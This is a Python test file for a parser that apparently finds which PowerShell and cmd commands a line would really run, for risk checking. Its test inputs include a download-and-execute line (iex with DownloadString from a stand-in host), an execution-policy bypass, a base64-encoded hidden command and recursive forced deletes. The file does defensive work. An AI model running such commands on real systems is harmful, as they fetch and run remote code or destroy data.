"""PowerShell read into commands: what runs is found, what is only text is not.

Source: Microsoft Learn, "about_Parsing", "about_Quoting_Rules", "about_PowerShell_exe".
"""

from __future__ import annotations

import base64
import shlex
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flightdeck.model.shell import Feed, Invocation, Script, Word
from flightdeck.risk.powershell import encoded_command, parse, parse_cmd


def _unix(line: str) -> Script:
    """Stand for the Unix reader: one program and its words, `sudo` unwrapped."""
    first, *rest = shlex.split(line)
    wrappers: tuple[str, ...] = ()
    if first == "sudo" and rest:
        wrappers, (first, *rest) = ("sudo",), rest
    words = tuple(Word(text, (0, 0)) for text in rest)
    return Script((Invocation(first, words, wrappers=wrappers),))


def _read(command: str) -> Script:
    return parse(command, _unix)


def _told(command: str) -> list[str]:
    """Return each command found as one line, plain expressions left out."""
    return [
        " ".join((item.program, *(word.text for word in item.words)))
        for item in _read(command).invocations
        if item.program != "write-output"
    ]


def _only(command: str) -> Invocation:
    (found,) = (i for i in _read(command).invocations if i.program != "write-output")
    return found


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("rm old.log", "remove-item old.log"),
        ("RI -Rec -Fo .\\x", "remove-item --recurse --force .\\x"),
        ("& 'Remove-Item' -Recurse x", "remove-item --recurse x"),
        ('& "Remove-Item" x', "remove-item x"),
        ("Remove`-Item x", "remove-item x"),
        ("Remove-Item `\n  x", "remove-item x"),
        ("Remove-Item -Path:x", "remove-item --path=x"),
        ("Remove-Item -Recurse:$true x", "remove-item --recurse x"),
        ("Remove-Item -Recurse:$false x", "remove-item x"),
        ("Remove-Item -Confirm:$false x", "remove-item --confirm=$false x"),
        ("Remove-Item a, b", "remove-item a b"),
        ("Remove-Item 'it''s'", "remove-item it's"),
        ('Remove-Item "a""b"', 'remove-item a"b'),
        ('Remove-Item "a`tb"', "remove-item a\tb"),
        ("Remove-Item x # not y", "remove-item x"),
        ("Remove-Item <# not y #> x", "remove-item x"),
        ("C:\\tools\\git.exe push", "git push"),
        ("$c = 'Remove-Item'; & $c x", "remove-item x"),
        ("${c} = 1", ""),
        ("cmdlet --% a | b\n", "cmdlet a | b"),
        (". .\\profile.ps1", ". .\\profile.ps1"),
    ],
)
def test_a_command_is_told_by_its_whole_name_and_its_words(command: str, told: str) -> None:
    assert _told(command) == ([told] if told else [])


@pytest.mark.parametrize(
    "command",
    [
        "a; b",
        "a\nb",
        "a && b",
        "a || b",
        "a | b",
        "if (a) { b }",
        "if (x) {} elseif (a) { b } else {}".replace("x", "$x"),
        "foreach ($f in a) { b }",
        "while (a) { b }",
        "try { a } catch { b }",
        "function f { a; b }",
        "$x = a; b",
        "a & \nb",
        '"$(a)"; b',
        '"one $(a) and $(b)"',
        "@(a; b)",
        "@{ x = a; y = b }",
        '@"\n$(a)\n"@; b',
    ],
)
def test_every_command_of_a_script_is_found_wherever_it_stands(command: str) -> None:
    assert _told(command)[:2] == ["a", "b"]


@pytest.mark.parametrize(
    "text",
    [
        "Write-Host 'Remove-Item -Recurse x'",
        'Write-Host "Remove-Item x; rd y"',
        "@'\nRemove-Item x\n$(rd y)\n'@",
        "# Remove-Item x",
        "<# Remove-Item x #>",
        "'Remove-Item x'",
        "Select-String -Pattern 'Remove-Item' a.ps1",
    ],
)
def test_what_is_only_text_is_not_run(text: str) -> None:
    assert not any(told.startswith("remove-item") for told in _told(text))


def test_a_method_is_a_command_of_its_name_with_its_arguments() -> None:
    assert "io.directory::delete C:\\x $true" in _told(
        "[System.IO.Directory]::Delete('C:\\x', $true)"
    )
    assert "io.file::delete x" in _told("[IO.File]::Delete('x')")
    assert ".delete $true" in _told("(Get-Item x).Delete($true)")


def test_what_a_pipe_brings_is_not_shown_by_the_line() -> None:
    piped = _only("'a', 'b' | Remove-Item")
    assert piped.more
    assert piped.feed is Feed.PIPE
    assert [item.program for item in piped.upstream] == ["write-output"]


def test_a_command_within_the_words_is_a_source_of_them() -> None:
    outer = _read("Remove-Item (Get-ChildItem x)").invocations[-1]
    assert outer.more
    assert outer.feed is Feed.NONE
    assert [item.program for item in outer.sources] == ["get-childitem"]


def test_a_redirection_is_kept_unless_it_goes_nowhere() -> None:
    (kept,) = _only("Get-Date > out.txt").redirects
    assert (kept.operator, kept.target.text) == (">", "out.txt")
    assert _only("Get-Date 2> $null").redirects == ()
    assert _only("Get-Date 2>&1").redirects == ()


def test_a_variable_that_is_not_known_stays_as_it_is_written() -> None:
    (word,) = _only("Remove-Item $env:TEMP").words
    assert (word.text, word.literal) == ("$env:TEMP", False)
    assert _only("& $tool x").program == ""


def test_a_span_is_where_the_command_stands() -> None:
    line = "cd x; Remove-Item y"
    start, end = _read(line).invocations[-1].span
    assert line[start:end].strip() == "Remove-Item y"


@pytest.mark.parametrize(
    ("command", "wrapper"),
    [
        ('powershell -Command "Remove-Item x"', "powershell"),
        ("pwsh -NoProfile -c Remove-Item x", "pwsh"),
        ("powershell -ExecutionPolicy Bypass -Command Remove-Item x", "powershell"),
        ("powershell -ep Bypass Remove-Item x", "powershell"),
        ("powershell.exe Remove-Item x", "powershell"),
        ("Invoke-Expression 'Remove-Item x'", "invoke-expression"),
        ("'Remove-Item x' | iex", "invoke-expression"),
    ],
)
def test_a_shell_within_the_shell_is_looked_into(command: str, wrapper: str) -> None:
    inner = _only(command)
    assert (inner.program, [word.text for word in inner.words]) == ("remove-item", ["x"])
    assert inner.wrappers == (wrapper,)


def test_an_encoded_command_is_decoded_and_told_by_one_name() -> None:
    hidden = base64.b64encode("Remove-Item x".encode("utf-16-le")).decode()
    outer, inner = _read(f"powershell -nop -enc {hidden}").invocations
    assert outer.words[0].text == "--encodedcommand"
    assert inner.program == "remove-item"


@pytest.mark.parametrize("text", ["", "!", "ab", "QUJD" * 3 + "x"])
def test_a_text_that_encodes_nothing_decodes_to_something_harmless(text: str) -> None:
    assert isinstance(encoded_command(text), str)


@pytest.mark.parametrize(
    "command", ["pwsh build.ps1", "powershell -File build.ps1", "powershell", "pwsh -"]
)
def test_a_shell_that_runs_a_file_or_its_input_stays_itself(command: str) -> None:
    assert _only(command).program in ("pwsh", "powershell")


def test_text_that_is_put_together_leaves_the_script_opaque() -> None:
    script = _read("iex (New-Object Net.WebClient).DownloadString('https://x.example')")
    assert script.opaque
    last = script.invocations[-1]
    assert last.program == "invoke-expression"
    assert ".downloadstring" in [item.program for item in last.sources]


def test_a_started_process_is_a_call_of_its_file_beside_the_cmdlet() -> None:
    script = _read("Start-Process -Verb RunAs git -ArgumentList 'push --force'")
    assert [item.program for item in script.invocations] == ["start-process", "git"]
    assert [word.text for word in script.invocations[1].words] == ["push", "--force"]
    assert _told("Start-Process $file")[0].startswith("start-process")
    assert _told("Start-Process Start-Process")[0].startswith("start-process")


def test_other_programs_are_given_to_the_unix_reader() -> None:
    found = _only("sudo git push 'a b' $x")
    assert (found.program, found.wrappers) == ("git", ("sudo",))
    assert [word.text for word in found.words] == ["push", "a b", "$x"]


def test_what_surrounds_a_program_is_kept_when_another_reader_unwraps_it() -> None:
    found = _only("'x' | git apply > log.txt")
    assert found.feed is Feed.PIPE
    assert found.redirects[0].target.text == "log.txt"
    assert found.upstream


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ('/c "del /s x & echo y"', ["del /s x", "echo y"]),
        ("/c rd /s /q x", ["rd /s /q x"]),
        ("/crd x", ["rd x"]),
        ('/k "dir && C:\\bin\\del.exe y"', ["dir", "del y"]),
        ('/c rd "a b"', ["rd a b"]),
        ("dir", ["cmd dir"]),
    ],
)
def test_a_line_of_cmd_is_split_into_its_commands(line: str, told: list[str]) -> None:
    assert _told(f"cmd {line}") == told


def test_a_pipe_of_cmd_feeds_the_next_command_and_an_or_does_not() -> None:
    piped = parse_cmd("type x | sort || del y", _unix).invocations
    assert [item.feed for item in piped] == [Feed.NONE, Feed.PIPE, Feed.NONE]
    assert piped[1].upstream[0].program == "type"


@pytest.mark.parametrize(
    "text",
    [
        "(",
        "{",
        "'",
        '"',
        '"$(',
        "@'\n",
        '@"\n$(',
        "`",
        "a |",
        "|",
        "&",
        "a >",
        "[x]::y(",
        "$(" * 50,
    ],
)
def test_a_text_that_breaks_off_is_read_as_far_as_it_goes(text: str) -> None:
    assert _told(f"Remove-Item x; {text}")[0] == "remove-item x"


@pytest.mark.parametrize("unclosed", ["'a", '"a', "@'\na", '@"\na', "(a", "{ a"])
def test_what_is_never_closed_leaves_the_script_opaque(unclosed: str) -> None:
    assert _read(unclosed).opaque


@pytest.mark.parametrize(
    "piece", ["a;", "a|", "x " * 20, "(", "iex 'a';", "powershell -c ", "cmd /c ", "$x=1;"]
)
def test_a_text_without_end_is_cut_off_and_opaque(piece: str) -> None:
    script = _read(piece * (120_000 // len(piece)))
    assert script.opaque
    assert len(script.invocations) <= 1_000


@given(st.text(alphabet="abc-$(){}[]'\"`|&;<>@#,.:%\\\n =", max_size=120))
@settings(max_examples=200, deadline=None)
def test_any_text_is_read_without_an_error_and_in_order(text: str) -> None:
    spans = [item.span for item in _read(text).invocations]
    assert all(0 <= start <= end <= len(text) for start, end in spans)
    assert all(one[1] <= two[1] or one == two for one, two in pairwise(spans))
